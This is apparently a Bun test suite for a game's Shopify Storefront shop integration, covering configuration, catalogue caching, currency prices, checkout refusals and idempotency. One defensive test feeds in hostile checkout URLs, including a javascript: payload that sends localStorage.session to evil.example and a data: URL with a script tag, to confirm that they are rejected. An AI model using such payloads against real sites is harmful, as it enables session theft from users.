import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, setSystemTime, test } from 'bun:test';
import { parse, validate } from 'graphql';
import { seedTraits } from '../../../../db/catalogue/seed-traits.ts';
import { avatars } from '../../../../db/schema/index.ts';
import { createTestApp } from '../../../test/app.ts';
import { bodyOf, client } from '../../../test/client.ts';
import { checkout, storedOrders } from '../../../test/shop.ts';
import { STOREFRONT_DOMAIN, STOREFRONT_TOKEN, startStorefront, storefrontSchema, type TestProduct } from '../../../test/shopify-storefront.ts';
import { errorOf, registeredPlayer } from '../../../test/wearables.ts';
import { CACHE_MS, STALE_MS } from '../../shop/shopify.ts';
import { EnvError, parseEnv } from '../../env.ts';
import { CART_CREATE_MUTATION, CATALOGUE_QUERY } from '../../shop/shopify-queries.ts';
import { SHOP_MESSAGES } from '../../../../domain/shop-rules.ts';

const gid = (kind: string, n: number) => `gid://shopify/${kind}/${n}`;
const money = (amount: string, currencyCode: string) => ({ amount, currencyCode });

/** Test data as Shopify would answer it: prices per country context, the shop's own currency USD. */
const catalogue = (): TestProduct[] => [
  {
    id: gid('Product', 1),
    title: 'Harbour Hoodie',
    description: 'Warm.',
    tags: ['apparel'],
    image: 'https://cdn.example/hoodie.png',
    variants: [
      { id: gid('ProductVariant', 11), title: 'M', availableForSale: true, quantityAvailable: 4, prices: { US: money('50.0', 'USD'), GB: money('40.0', 'GBP'), DE: money('46.5', 'EUR') } },
      { id: gid('ProductVariant', 12), title: 'L', availableForSale: false, quantityAvailable: 0, image: 'https://cdn.example/hoodie-l.png', prices: { US: money('50.0', 'USD'), GB: money('40.0', 'GBP'), DE: money('46.5', 'EUR') } },
    ],
  },
  {
    // Not sold in euros: the German context falls back to the shop's currency.
    id: gid('Product', 2),
    title: 'Sticker Pack',
    description: '',
    tags: [],
    image: null,
    variants: [{ id: gid('ProductVariant', 21), title: 'Default Title', availableForSale: true, quantityAvailable: null, image: 'https://cdn.example/stickers.png', prices: { US: money('5.0', 'USD'), GB: money('4.0', 'GBP') } }],
  },
  {
    id: gid('Product', 3),
    title: 'Cat Club Pin',
    description: 'For cat holders.',
    tags: ['holders:collection:CAT'],
    image: 'https://cdn.example/pin.png',
    variants: [{ id: gid('ProductVariant', 31), title: 'Default Title', availableForSale: true, quantityAvailable: 9, prices: { US: money('9.0', 'USD'), GB: money('7.0', 'GBP'), DE: money('8.0', 'EUR') } }],
  },
];

let storefront: Awaited<ReturnType<typeof startStorefront>>;
let t: Awaited<ReturnType<typeof createTestApp>>;
beforeAll(async () => {
  storefront = await startStorefront(catalogue());
  t = await createTestApp({ shopFetch: storefront.fetch }, { SHOP_PROVIDER: 'shopify', SHOPIFY_STORE_DOMAIN: STOREFRONT_DOMAIN, SHOPIFY_STOREFRONT_TOKEN: STOREFRONT_TOKEN });
  await seedTraits(t.deps.database.db);
}, 60_000);
afterAll(async () => {
  await t.close();
  await storefront.close();
});
// Each test starts with a cold cache (the clock moves past it) and a Storefront that answers.
let clock = Date.now();
beforeEach(() => {
  clock += CACHE_MS * 2;
  setSystemTime(new Date(clock));
  storefront.fail(null);
});
afterEach(() => {
  // Every operation the town sent was one Shopify's schema accepts.
  expect(storefront.invalid).toEqual([]);
});
afterAll(() => setSystemTime());

const shop = (token: string) => client(t.app, token).api.shop.$get();
const catalogueReads = () => storefront.operations.filter((o) => o.name === 'TownCatalogue').length;

describe('configuration', () => {
  test('SHOP_PROVIDER=shopify needs the store domain and token; the built-in store is the default', () => {
    expect(parseEnv({}).SHOP_PROVIDER).toBe('builtin');
    const problems = (() => {
      try {
        parseEnv({ SHOP_PROVIDER: 'shopify', SHOPIFY_STORE_DOMAIN: 'not a domain' });
      } catch (err) {
        return (err as EnvError).problems;
      }
      return [];
    })();
    expect(problems).toEqual([
      'SHOPIFY_STORE_DOMAIN: must be a host name, e.g. town-merch.myshopify.com',
      'SHOPIFY_STOREFRONT_TOKEN: is required with SHOP_PROVIDER=shopify',
    ]);
    expect(() => parseEnv({ SHOP_PROVIDER: 'stripe' })).toThrow(EnvError);
    expect(() => parseEnv({ SHOP_ORDER_TTL_MINUTES: '2' })).toThrow('SHOP_ORDER_TTL_MINUTES');
  });
});

describe('the local Storefront', () => {
  test("refuses what Shopify's schema refuses, accepts the town's operations", () => {
    expect(validate(storefrontSchema(), parse(CATALOGUE_QUERY))).toEqual([]);
    expect(validate(storefrontSchema(), parse(CART_CREATE_MUTATION))).toEqual([]);
    const wrong = validate(storefrontSchema(), parse('query { products(first: 5) { nodes { id price } } }'));
    expect(wrong.map((e) => e.message)).toEqual(['Cannot query field "price" on type "Product".']);
    expect(validate(storefrontSchema(), parse('query { products(limit: 5) { nodes { id } } }')).map((e) => e.message)).toEqual(['Unknown argument "limit" on field "QueryRoot.products". Did you mean "first" or "last"?']);
  });
});

describe('SHOP_PROVIDER=shopify: GET /api/shop', () => {
  test('answers the Storefront catalogue: variant ids, presentment prices per currency, availability, holder tags', async () => {
    const me = await registeredPlayer(t.app);
    const products = await bodyOf(await shop(me.token), 200);
    expect(products.map((p) => p.title)).toEqual(['Harbour Hoodie', 'Sticker Pack', 'Cat Club Pin']);
    expect(products[0]).toEqual({
      id: gid('Product', 1),
      title: 'Harbour Hoodie',
      description: 'Warm.',
      image: { src: 'https://cdn.example/hoodie.png' },
      variants: [
        {
          id: gid('ProductVariant', 11),
          title: 'M',
          image: { src: 'https://cdn.example/hoodie.png' },
          price: { amount: '50.00' },
          quantityAvailable: 4,
          detail: {
            presentment_prices: [
              { price: { currency_code: 'GBP', amount: '40.00' } },
              { price: { currency_code: 'EUR', amount: '46.50' } },
              { price: { currency_code: 'USD', amount: '50.00' } },
            ],
          },
        },
        expect.objectContaining({ id: gid('ProductVariant', 12), image: { src: 'https://cdn.example/hoodie-l.png' }, quantityAvailable: 0 }),
      ],
    });
    // No EUR price where the euro context answered in dollars; untracked stock is offered up to the cart maximum.
    expect(products[1]!.image.src).toBe('https://cdn.example/stickers.png');
    expect(products[1]!.variants[0]!.detail.presentment_prices.map((p) => p.price.currency_code)).toEqual(['GBP', 'USD']);
    expect(products[1]!.variants[0]!.quantityAvailable).toBe(10);
    expect(products[2]!.holdersOnly).toEqual({ label: 'Holders only: Cats', eligible: false });
    // One read per currency, each in its country's context.
    expect(storefront.operations.slice(-3).map((o) => o.country).sort()).toEqual(['DE', 'GB', 'US']);
  }, 60_000);

  test('kept for CACHE_MS: players in that time cost Shopify nothing, after it the catalogue is read again', async () => {
    const me = await registeredPlayer(t.app);
    const before = catalogueReads();
    await bodyOf(await shop(me.token), 200);
    await bodyOf(await shop(me.token), 200);
    expect(catalogueReads() - before).toBe(3);
    setSystemTime(new Date(Date.now() + CACHE_MS - 1000));
    await bodyOf(await shop(me.token), 200);
    expect(catalogueReads() - before).toBe(3);
    setSystemTime(new Date(Date.now() + 2000));
    await bodyOf(await shop(me.token), 200);
    expect(catalogueReads() - before).toBe(6);
  }, 60_000);

  test('Shopify failing: 502 with no recent catalogue, the last good one (up to STALE_MS old) once there is one', async () => {
    const me = await registeredPlayer(t.app);
    setSystemTime(new Date(Date.now() + STALE_MS + 1));
    storefront.fail(503);
    // The client retries once on 503; still failing is a 502 for the player.
    const res = await shop(me.token);
    expect([res.status as number, await errorOf(res)]).toEqual([502, 'The store cannot be reached right now, please try again']);
    storefront.fail(null);
    expect((await shop(me.token)).status).toBe(200);
    setSystemTime(new Date(Date.now() + CACHE_MS + 1));
    storefront.fail(500);
    expect((await bodyOf(await shop(me.token), 200)).length).toBe(3);
    setSystemTime(new Date(Date.now() + STALE_MS));
    expect((await shop(me.token)).status).toBe(502);
  }, 60_000);
});

describe('SHOP_PROVIDER=shopify: POST /api/shop/checkout', () => {
  test("creates a Storefront cart in the currency's country and answers its checkoutUrl; nothing is stored here", async () => {
    const me = await registeredPlayer(t.app);
    const before = await storedOrders(t.deps.database.db);
    const { webUrl } = await bodyOf(await checkout(t.app, me.token, [{ id: gid('ProductVariant', 11), quantity: 2 }, { id: gid('ProductVariant', 21), quantity: 3 }], 'GBP'), 200);
    expect(webUrl).toMatch(new RegExp(`^https://${STOREFRONT_DOMAIN.replace(/\./g, '\\.')}/cart/c/`));
    expect(storefront.carts.at(-1)).toEqual({
      country: 'GB',
      lines: [
        { merchandiseId: gid('ProductVariant', 11), quantity: 2 },
        { merchandiseId: gid('ProductVariant', 21), quantity: 3 },
      ],
    });
    expect(await storedOrders(t.deps.database.db)).toEqual(before);
  }, 60_000);

  test('the same refusals as the built-in store, and no cart is made for any', async () => {
    const me = await registeredPlayer(t.app);
    const carts = storefront.carts.length;
    const cases: Array<[Parameters<typeof checkout>[2], 'USD' | 'EUR', number, string]> = [
      [[], 'USD', 400, 'Your cart is empty'],
      [[{ id: gid('ProductVariant', 99), quantity: 1 }], 'USD', 400, 'Unknown product'],
      [[{ id: '11', quantity: 1 }], 'USD', 400, 'Unknown product'],
      [[{ id: gid('ProductVariant', 12), quantity: 1 }], 'USD', 409, 'Sold out: Harbour Hoodie (L)'],
      [[{ id: gid('ProductVariant', 11), quantity: 5 }], 'USD', 409, 'Only 4 left of Harbour Hoodie (M)'],
      [[{ id: gid('ProductVariant', 21), quantity: 1 }], 'EUR', 400, 'No EUR price for Sticker Pack (Default Title)'],
      [[{ id: gid('ProductVariant', 31), quantity: 1 }], 'USD', 403, 'Holders only'],
    ];
    for (const [cart, currency, status, error] of cases) {
      const res = await checkout(t.app, me.token, cart, currency);
      expect([res.status as number, await errorOf(res)]).toEqual([status, error]);
    }
    expect(storefront.carts.length).toBe(carts);
    // A cat holder may buy the pin.
    await t.deps.database.db.insert(avatars).values({ type: 'CAT', token_id: 7001, profile_id: me.id });
    expect((await checkout(t.app, me.token, [{ id: gid('ProductVariant', 31), quantity: 1 }])).status).toBe(200);
  }, 60_000);

  test('a checkout address that is not https is never handed to the page: 502, as an unreachable store', async () => {
    const me = await registeredPlayer(t.app);
    try {
      for (const url of ['javascript:fetch("//evil.example/?t="+localStorage.session)', 'http://town-merch.myshopify.com/cart/c/1', 'data:text/html,<script>1</script>', 'not a url']) {
        storefront.checkoutUrl(url);
        const res = await checkout(t.app, me.token, [{ id: gid('ProductVariant', 11), quantity: 1 }]);
        expect([url, res.status as number, await errorOf(res)]).toEqual([url, 502, SHOP_MESSAGES.storeUnavailable]);
      }
    } finally {
      storefront.checkoutUrl(null);
    }
    expect((await checkout(t.app, me.token, [{ id: gid('ProductVariant', 11), quantity: 1 }])).status).toBe(200);
  }, 60_000);

  test("Shopify's own word wins: a line it could not fill is 409 with its message", async () => {
    const me = await registeredPlayer(t.app);
    await bodyOf(await shop(me.token), 200);
    // Sold elsewhere since the catalogue was read.
    storefront.products[0]!.variants[0]!.quantityAvailable = 1;
    const res = await checkout(t.app, me.token, [{ id: gid('ProductVariant', 11), quantity: 3 }]);
    expect([res.status as number, await errorOf(res)]).toEqual([409, 'Only 1 item was added to your cart due to availability.']);
    storefront.products[0]!.variants[0]!.quantityAvailable = 4;
  }, 60_000);

  test('an Idempotency-Key retried, or sent twice at once, makes one cart and answers its checkoutUrl', async () => {
    const me = await registeredPlayer(t.app);
    const carts = storefront.carts.length;
    const line = [{ id: gid('ProductVariant', 21), quantity: 1 }];
    const first = await bodyOf(await checkout(t.app, me.token, line, 'USD', 'shopify-key-1'), 200);
    const again = await bodyOf(await checkout(t.app, me.token, line, 'USD', 'shopify-key-1'), 200);
    const together = await Promise.all([1, 2, 3].map(() => checkout(t.app, me.token, line, 'USD', 'shopify-key-2')));
    const urls = await Promise.all(together.map((r) => bodyOf(r, 200)));
    expect(again.webUrl).toBe(first.webUrl);
    expect(new Set(urls.map((u) => u.webUrl)).size).toBe(1);
    expect(storefront.carts.length - carts).toBe(2);
    const changed = await checkout(t.app, me.token, [{ id: gid('ProductVariant', 21), quantity: 2 }], 'USD', 'shopify-key-1');
    expect([changed.status as number, await errorOf(changed)]).toEqual([422, 'This Idempotency-Key was already used for a different cart']);
  }, 60_000);

  test('orders live in Shopify: the town lists none', async () => {
    const me = await registeredPlayer(t.app);
    expect(await bodyOf(await client(t.app, me.token).api.shop.orders.$get(), 200)).toEqual({ orders: [] });
  }, 60_000);
});
